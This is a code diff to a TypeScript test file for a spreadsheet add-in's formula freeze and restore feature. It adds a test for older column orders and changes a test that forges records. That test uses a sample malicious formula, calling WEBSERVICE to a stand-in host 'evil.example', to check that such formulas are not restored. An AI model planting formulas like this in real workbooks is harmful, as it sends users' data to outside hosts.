@@ -1,6 +1,8 @@
 import type { CustomFunctionMetadata } from '../../../host/grid/customFunction';
 import { bootOfficeWithFreshSheets, office } from '../../../host/testing/officeOfTest';
 import { freeze, type FreezeOptions } from './freeze';
+import { rowsAbove } from '../cells/reportSheet';
+import { frozenHeader, underHeader } from './frozenRecord';
 import { provenanceOf } from '../formulas/provenance';
 import { repairFormulas } from './repair';
 import { unfreeze } from './unfreeze';
@@ -186,6 +188,23 @@ test('many formulas are frozen in few requests, stop between steps, and go on', 
   expect(office.read('B700')).toEqual([[699]]);
 });
 
+test('columns in the order of earlier versions are read', async () => {
+  await enter(mixed);
+  await freeze(options);
+  const earlier = ['Cell when frozen', 'Value', 'Formula', 'Rows', 'Columns', 'Check', 'References'];
+  const order = [...earlier, ...frozenHeader.filter((name) => !earlier.includes(name))];
+  await office.Excel.run(async (context) => {
+    const records = context.workbook.worksheets.getItem('Calc frozen').getUsedRange();
+    records.load('formulas');
+    await context.sync();
+    records.formulas = (records.formulas as unknown[][]).map((row, r) =>
+      r < rowsAbove ? row : underHeader(row, frozenHeader, order, ''),
+    );
+    await context.sync();
+  });
+  expect(await unfreeze(control)).toMatchObject({ restored: 4 });
+});
+
 test('a record of a hand-made file brings back no formula that reaches out of the workbook, and says why', async () => {
   await enter(mixed);
   await freeze(options);
@@ -197,7 +216,7 @@ test('a record of a hand-made file brings back no formula that reaches out of th
       await context.sync();
       const values = records.values as unknown[][];
       const at = values.findIndex(([address]) => address === `Sheet1!A${row}`);
-      sheet.getCell(records.rowIndex + at, 2).values = [[text]];
+      sheet.getCell(records.rowIndex + at, frozenHeader.indexOf('Formula')).values = [[text]];
       await context.sync();
     });
   await forge(1, '=WEBSERVICE("https://evil.example/"&CALC.RUN(1))');
